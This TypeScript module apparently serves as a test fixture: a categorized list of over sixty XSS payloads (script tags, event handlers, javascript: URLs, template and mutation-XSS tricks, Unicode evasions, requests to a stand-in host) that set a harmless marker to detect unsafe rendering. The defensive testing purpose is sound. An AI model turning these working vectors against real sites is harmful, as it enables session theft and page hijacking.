/** Executed by each payload if a page renders it as anything but text. */
const EXECUTED_MARKER = "window.__executed=1";

const HTML = [
  `<script>${EXECUTED_MARKER}</script>`,
  `<SCRIPT>${EXECUTED_MARKER}</SCRIPT>`,
  `<script src="data:text/javascript,${EXECUTED_MARKER}"></script>`,
  `<script src="https://example.test/x.js"></script>`,
  `"><script>${EXECUTED_MARKER}</script>`,
  `'><script>${EXECUTED_MARKER}</script>`,
  `</pre><script>${EXECUTED_MARKER}</script>`,
  `</title><script>${EXECUTED_MARKER}</script>`,
  `</textarea><script>${EXECUTED_MARKER}</script>`,
  `--><script>${EXECUTED_MARKER}</script>`,
  `]]><script>${EXECUTED_MARKER}</script>`,
  `<scr<script>ipt>${EXECUTED_MARKER}</scr</script>ipt>`,
  `<img src=x onerror=${EXECUTED_MARKER}>`,
  `<img src=x onerror="${EXECUTED_MARKER}"//`,
  `"><img src=x onerror=${EXECUTED_MARKER}>`,
  `<img src="https://example.test/pixel.png">`,
  `<img/src='x'/onerror='${EXECUTED_MARKER}'>`,
  `<IMG """><SCRIPT>${EXECUTED_MARKER}</SCRIPT>">`,
  `<body onload=${EXECUTED_MARKER}>`,
  `<div onmouseover="${EXECUTED_MARKER}" style="position:fixed;inset:0">x</div>`,
  `<input autofocus onfocus=${EXECUTED_MARKER}>`,
  `<select autofocus onfocus=${EXECUTED_MARKER}>`,
  `<details open ontoggle=${EXECUTED_MARKER}>x</details>`,
  `<video src=x onerror=${EXECUTED_MARKER}></video>`,
  `<audio src=x onerror=${EXECUTED_MARKER}></audio>`,
  `<video><source onerror=${EXECUTED_MARKER}></video>`,
  `<marquee onstart=${EXECUTED_MARKER}>x</marquee>`,
  `<iframe src="javascript:${EXECUTED_MARKER}"></iframe>`,
  `<iframe srcdoc="<script>parent.__executed=1</script>"></iframe>`,
  `<object data="javascript:${EXECUTED_MARKER}"></object>`,
  `<embed src="javascript:${EXECUTED_MARKER}">`,
  `<form action="javascript:${EXECUTED_MARKER}"><button>x</button></form>`,
  `<base href="https://example.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://example.test/">`,
  `<link rel=stylesheet href="https://example.test/x.css">`,
  `<style>@import "https://example.test/x.css";</style>`,
  `<style>*{background:url(https://example.test/x)}</style>`,
  `<table background="javascript:${EXECUTED_MARKER}"><td>x</table>`,
];

const SVG_AND_MATHML = [
  `<svg onload=${EXECUTED_MARKER}>`,
  `<svg><script>${EXECUTED_MARKER}</script></svg>`,
  `<svg><animate onbegin=${EXECUTED_MARKER} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${EXECUTED_MARKER}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${EXECUTED_MARKER}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${EXECUTED_MARKER} />#x"/></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${EXECUTED_MARKER}></style></mglyph></math>`,
  `<math href="javascript:${EXECUTED_MARKER}">x</math>`,
];

const URLS = [
  `javascript:${EXECUTED_MARKER}`,
  `JaVaScRiPt:${EXECUTED_MARKER}`,
  `java\tscript:${EXECUTED_MARKER}`,
  ` javascript:${EXECUTED_MARKER}`,
  `data:text/html,<script>${EXECUTED_MARKER}</script>`,
  `vbscript:${EXECUTED_MARKER}`,
  `[link](javascript:${EXECUTED_MARKER})`,
  `![image](https://example.test/leak?q=1)`,
  `<a href="javascript:${EXECUTED_MARKER}">x</a>`,
  `//example.test/x`,
  `#/runs/<img src=x onerror=${EXECUTED_MARKER}>`,
];

const TEMPLATES = [
  `{{constructor.constructor('${EXECUTED_MARKER}')()}}`,
  `\${${EXECUTED_MARKER}}`,
  `<%= ${EXECUTED_MARKER} %>`,
  `#{${EXECUTED_MARKER}}`,
  `\`;${EXECUTED_MARKER};//`,
  `';${EXECUTED_MARKER};//`,
  `"};${EXECUTED_MARKER};//`,
  `{"__html":"<img src=x onerror=${EXECUTED_MARKER}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${EXECUTED_MARKER}"}}}`,
];

/** Texts that change when they are serialized and parsed again. */
const MUTATION_XSS = [
  `<noscript><p title="</noscript><img src=x onerror=${EXECUTED_MARKER}>">`,
  `<template><img src=x onerror=${EXECUTED_MARKER}></template>`,
  `<listing>&lt;img src=x onerror=${EXECUTED_MARKER}&gt;</listing>`,
  `<svg></p><style><a id="</style><img src=x onerror=${EXECUTED_MARKER}>">`,
  `<math><mi><table><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${EXECUTED_MARKER}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${EXECUTED_MARKER}>`,
  `&lt;img src=x onerror=${EXECUTED_MARKER}&gt;`,
  `&#60;script&#62;${EXECUTED_MARKER}&#60;/script&#62;`,
  `%3Cscript%3E${EXECUTED_MARKER}%3C/script%3E`,
  `\\u003cscript\\u003e${EXECUTED_MARKER}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${EXECUTED_MARKER}\\x3e`,
];

const UNICODE = [
  `\u202E<script>${EXECUTED_MARKER}</script>\u202C`,
  `\u2066<img src=x onerror=${EXECUTED_MARKER}>\u2069\u2068`,
  `\u200B<\u200Bscript>${EXECUTED_MARKER}</script>`,
  `\uFEFF<script>${EXECUTED_MARKER}</script>`,
  `＜script＞${EXECUTED_MARKER}＜/script＞`,
  `<ſcript>${EXECUTED_MARKER}</ſcript>`,
  `\u2028${EXECUTED_MARKER}\u2029//`,
  `a${"\u0300\u0489".repeat(40)}`,
  `\u202Etxt.exe\u2069\u2069\u2069`,
  `${"W".repeat(500)}`,
  `مرحبا ${"ש".repeat(120)} <b onclick=${EXECUTED_MARKER}>`,
  `\u0007\u001B[31m<script>${EXECUTED_MARKER}</script>`,
];

/** More than 60 texts that attack pages through script execution, external requests, or broken layout. */
export const XSS_PAYLOADS: readonly string[] = [
  ...HTML,
  ...SVG_AND_MATHML,
  ...URLS,
  ...TEMPLATES,
  ...MUTATION_XSS,
  ...UNICODE,
];
